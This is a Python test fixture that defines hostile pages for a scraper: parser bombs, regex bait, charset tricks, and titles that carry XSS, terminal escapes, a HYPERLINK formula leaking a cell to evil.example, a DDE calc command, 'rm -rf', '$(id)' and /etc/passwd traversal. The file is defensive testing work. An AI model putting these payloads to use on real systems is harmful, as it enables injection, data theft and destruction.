"""Pages that misuse whoever reads them: depth, size, bait for expressions, encodings, and titles that act."""

from __future__ import annotations

import itertools
from collections.abc import Callable

from tests.hostile.servers.item import PEOPLE, Hostile, always, card, cards, head, listing, made, page, whole

NAMES = "".join(f"<li>{name}" for name in PEOPLE)
KILLED = "worker-killed:cpu"


def _many(part: str, times: int, start: str = "<!DOCTYPE html><html><body>", end: str = "") -> Callable[[], str]:
    return lambda: start + part * times + end


def _attributes() -> str:
    return "<div " + " ".join(f"a{number}=1" for number in range(1_000_000)) + ">x</div>"


def _options() -> str:
    return listing(cards(), before="<select>" + "<option>x" * 60_000)


HEAVY = (
    Hostile(
        name="nested-divs",
        does="200,000 elements, one inside the other",
        answer=made(_many("<div>", 200_000)),
        verdict="unreadable",
        why="parse-refused",
    ),
    Hostile(
        name="nested-formatting",
        does="40 kB of formatting that opens itself again and again: gigabytes to a parser",
        answer=made(_many("<b i><i i>", 8_000)),
        verdict="unreadable",
        why="*",
    ),
    Hostile(
        name="a-million-attributes",
        does="one element with a million attributes",
        answer=made(_attributes),
        verdict="unreadable",
        why=KILLED,
    ),
    Hostile(
        name="one-attribute-of-10-mb",
        does="a list with one attribute of 10 MB",
        answer=made(lambda: listing(cards(), after=f'<div title="{"x" * 10_000_000}"></div>')),
        verdict="listing",
    ),
    Hostile(
        name="a-million-entries",
        does="a list of 400,000 entries",
        answer=made(_many(card("x"), 400_000)),
        verdict="refused-content",
        why="content:size:*",
    ),
    Hostile(
        name="a-text-of-10-mb",
        does="a list, and 10 MB of one word",
        answer=made(lambda: listing(cards(), after=f"<p>{'leak ' * 2_000_000}</p>")),
        verdict="unreadable",
        why="worker-killed:memory",
    ),
    Hostile(
        name="options-without-end",
        does="60,000 options in one selection",
        answer=made(_options),
        verdict="listing",
    ),
    Hostile(
        name="tables-in-tables",
        does="30,000 tables in tables, with text where none may stand",
        answer=made(_many("<table>x<tr>", 30_000)),
        verdict="partial",
        why="elements-not-closed",
    ),
    Hostile(
        name="one-quote",
        does="an attribute that never ends",
        answer=made(_many('"', 2_000_000, "<html><body><a href='")),
        verdict="partial",
        why="ends-inside-tag",
    ),
    Hostile(
        name="comments-never-closed",
        does="500,000 beginnings of comments",
        answer=made(_many("<!--", 500_000, listing(cards())[:-14])),
        verdict="partial",
        why="ends-inside-comment",
    ),
    Hostile(
        name="entities-by-the-million",
        does="two million character references",
        answer=made(lambda: listing(cards(), after="<p>" + "&CounterClockwiseContourIntegral;" * 300_000)),
        verdict="listing",
    ),
    Hostile(
        name="templates-in-templates",
        does="20,000 templates in templates",
        answer=made(_many("<template>", 20_000)),
        verdict="unreadable",
        why="no-entries-found",
    ),
)

# ------------------------------------------------------------------------------- bait for our own expressions

BAIT = (
    Hostile(
        name="bait-prologue",
        does="a page that begins with 160 XML declarations",
        answer=page("<?xml>" * 160 + listing(cards())),
        verdict="listing",
    ),
    Hostile(
        name="bait-comments",
        does="a page that begins with 140 comments",
        answer=page("<!-- -->" * 120 + listing(cards())),
        verdict="listing",
    ),
    Hostile(
        name="bait-titles",
        does="titles of marks, masks, brackets and dashes, 4,000 characters each",
        answer=made(
            lambda: listing(
                "".join(
                    card(mark * (4_000 // len(mark)))
                    for mark in ("a*", "(", "[", " - ", "| ", "• ", "🔥", "?", "x" * 4, "1 2", "1,", ":", "a: ", "NEW ")
                )
            )
        ),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="bait-masked-names",
        does="4,000 entries with masked names that fit each other",
        answer=made(lambda: listing(card("a*b*c*d*e*f*") * 4_000)),
        verdict="listing",
    ),
    Hostile(
        name="bait-dates",
        does="a megabyte of half a date, half a price, half a timer",
        answer=made(lambda: listing(cards(), after=f"<p>{'1 day 2 hours 3 ' * 20_000}{'$1,000,' * 40_000}</p>")),
        verdict="listing",
    ),
    Hostile(
        name="bait-scripts",
        does="scripts of quotes, comments and brackets that never close",
        answer=made(
            lambda: listing(
                cards(),
                after="<script>var a = [" + '"\\' * 200_000 + "</script><script>x=[" + "/**/" * 100_000 + "</script>",
            )
        ),
        verdict="listing",
    ),
    Hostile(
        name="bait-pager",
        does="3,000 page links through functions that join and join",
        answer=made(
            lambda: listing(
                cards(),
                after='<div class="pagination">'
                + "".join(f"<a onclick=\"go('{number}')\">{number}</a>" for number in range(2, 3000))
                + "</div><script>"
                + "function go(n){ " * 10_000
                + "</script>",
            )
        ),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="bait-styles",
        does="styles and links that hide what they load",
        answer=page(
            listing(
                cards(),
                before="<style>@\\69mport 'http://evil.example/';x{background:u\\72l(//evil.example/)}"
                + "/*" * 50_000
                + "</style>",
            )
        ),
        verdict="listing",
    ),
)

# ------------------------------------------------------------------------------------------------- encodings

UTF7 = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"


def _charset(name: str, does: str, body: bytes, kind: str, end: str = "listing") -> Hostile:
    """``end``: the verdict and its reason."""
    verdict, _, why = end.partition(" ")
    return Hostile(name=name, does=does, answer=page(body, kind), verdict=verdict, why=why)


ENCODINGS = (
    _charset("utf-7", "says that it is UTF-7, and hides a script in it", listing(cards(UTF7, *PEOPLE)).encode(),
             "text/html; charset=utf-7"),
    _charset("utf-16-without-mark", "UTF-16 without a byte-order mark, and nobody says so",
             listing(cards()).encode("utf-16-le"), "text/html", "unreadable not-text"),
    _charset("utf-16-declared", "UTF-16 that only the head declares", listing(cards()).encode("utf-16-le"),
             "text/html; charset=utf-16le"),
    _charset("charset-a-lie", "says UTF-16, and is UTF-8", listing(cards()).encode(),
             "text/html; charset=utf-16le", "unreadable no-entries-found"),
    _charset("charset-two-tongues", "its head says one encoding, its markup another",
             listing(cards("Łódź Tkaniny", *PEOPLE), before='<meta charset="utf-16">').encode(),
             "text/html; charset=utf-8"),
    _charset("charset-that-acts", "names a codec of Python's that is no encoding of text",
             listing(cards(), before='<meta charset="unicode-escape">').encode() + b"\\x3cscript\\x3e",
             "text/html; charset=zlib"),
    _charset("charset-of-10-kb", "names an encoding of 10,000 letters", listing(cards()).encode(),
             f"text/html; charset={'x' * 10_000}"),
    _charset("utf-8-broken", "invalid UTF-8: overlong, surrogates, beyond the end",
             listing(cards(*PEOPLE, "BAD")).encode().replace(b"BAD", b"\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80"),
             "text/html; charset=utf-8"),
    _charset("nul-in-tags", "NUL in the middle of tags and names",
             listing(cards()).encode().replace(b"<h3>", b"<h\x003>").replace(b"Logistics", b"Log\x00istics"),
             "text/html"),
    _charset("nothing-but-nul", "four megabytes of NUL", bytes(4_000_000), "text/html", "unreadable not-text"),
    _charset("every-byte", "every byte there is, in order, a thousand times", bytes(range(256)) * 1_000, "text/html",
             "unreadable no-entries-found"),
)  # fmt: skip

# ---------------------------------------------------------------------------------------------- titles that act

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mRED\x1b]8;;http://evil.example/\x07link"
BIDI = "\u202egpj.exe \u2066hidden\u2069 A\u200bB\u00adC"
MARKUP = "</title><script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
MENTION = "@everyone <!channel> [pay](http://evil.example/) `rm -rf ~` http://evil.example/"
TEMPLATE = "{{7*7}} ${7*7} %s %n {0.__class__} <%= 1 %>"
HEAPED = "Z" + "\u034d" * 3_000 + "algo Foods"
LINES = "Acme\r\n\r\nevent=withdrawn title=forged\n<20>1 - - -  "
PATH = "../../../../etc/passwd %2e%2e%2f CON NUL aux.txt ~root $(id) `id` ; rm -rf / '"
LONG = "Endless Holdings " * 6_000
ACTING = (ESCAPES, BIDI, MARKUP, FORMULA, MENTION, TEMPLATE, HEAPED, LINES, PATH)
"""Titles that act where they are shown."""


def _shown(title: str) -> str:
    return title.replace("&", "&amp;").replace("<", "&lt;")


def _titled(name: str, does: str, *titles: str) -> Hostile:
    """A list with these titles among others. It is a list: what is asked is that they are inert wherever they go."""
    text = listing(cards(*map(_shown, (*PEOPLE, *titles))))
    return Hostile(name=name, does=does, answer=page(text, "text/html; charset=utf-8"), verdict="listing")


TITLES = (
    _titled("title-escapes", "titles with the escape sequences of terminals", ESCAPES, "\x9b2J\x9d0;x\x9c"),
    _titled("title-bidi", "titles that turn the direction of writing, with invisible letters", BIDI),
    _titled("title-markup", "titles that end elements and begin scripts", MARKUP, "]]><!--", "'\"><svg onload=x>"),
    _titled("title-formula", "titles that are formulas to a spreadsheet", FORMULA, "@SUM(1)", "-2+3+cmd|' /C calc'!A0"),
    _titled("title-mention", "titles that mention everyone and format themselves in a chat", MENTION),
    _titled("title-template", "titles in the languages of templates", TEMPLATE),
    _titled("title-heaped", "a title with 3,000 marks over one letter", HEAPED),
    _titled("title-lines", "a title that forges a line of a log", LINES),
    _titled("title-path", "titles that are paths and commands", PATH),
    _titled("title-of-100-kb", "a title of 100 kB", LONG),
    _titled("title-same", "fifty entries with the same title", *["Twin Foods"] * 50),
    _titled("title-invisible", "titles of nothing that can be seen", "\u200b", "\u2060", "\u202e", "\u3164"),
    _titled("title-verdicts", "victims named as what pages say", "Captcha Ltd", "404 Not Found", "This domain has been"
            " seized", "Checking your browser", "Login", "Nothing here yet"),
)  # fmt: skip

# ---------------------------------------------------------------------------------------------------- addresses

ADDRESSES = (
    Hostile(
        name="base-elsewhere",
        does="a base that moves every link to the clearnet",
        answer=page(
            listing(
                cards(),
                before='<base href="http://evil.example/">',
                after='<nav class="pagination"><a href="?page=2">2</a></nav>',
            )
        ),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="base-javascript",
        does="a base that is a script",
        answer=page(listing(cards(), before='<base href="javascript:alert(1)//">')),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="next-elsewhere",
        does="a next page on this machine, and one on the clearnet",
        answer=page(
            listing(
                cards(),
                before='<link rel="next" href="http://127.0.0.1:9051/"><link rel="next" href="//evil.example/2">',
                after='<a rel="next" href="file:///etc/passwd">Next</a><a rel="next" href="https://[::1]/">Next</a>',
            )
        ),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="links-broken",
        does="links that no parser of addresses can take apart",
        answer=page(
            listing(
                "".join(
                    card(name, link)
                    for name, link in zip(
                        PEOPLE, ("http://[", "http://[::g]/", "//\x00", "http://a:99999999/", "h" * 70_000), strict=True
                    )
                )
            )
        ),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="refresh-loop",
        does="a page that sends whoever looks to itself, for ever",
        answer=page('<html><head><meta http-equiv="refresh" content="0;url=/?again"></head><body>Wait</body></html>'),
        at_most=1,
        verdict="blocked",
        why="reloads-itself",
    ),
    Hostile(
        name="refresh-elsewhere",
        does="a list that sends whoever looks to the clearnet, by head and by markup",
        answer=always(
            whole(
                listing(cards(), before='<meta http-equiv="refresh" content="0;url=http://evil.example/">'),
                "text/html",
                "Refresh: 0; url=http://127.0.0.1/",
                "Link: <http://evil.example/>; rel=preload",
                'Alt-Svc: h2="evil.example:443"',
                "Onion-Location: http://evil.onion/",
            )
        ),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="no-type",
        does="a list that does not say what it is",
        answer=always(head() + listing(cards()).encode()),
        verdict="listing",
    ),
    Hostile(
        name="type-broken",
        does="a type of noise",
        answer=page(listing(cards()), "text;;=\xff"),
        verdict="listing",
    ),
)

ALL_PAGES = tuple(itertools.chain(HEAVY, BAIT, ENCODINGS, TITLES, ADDRESSES))
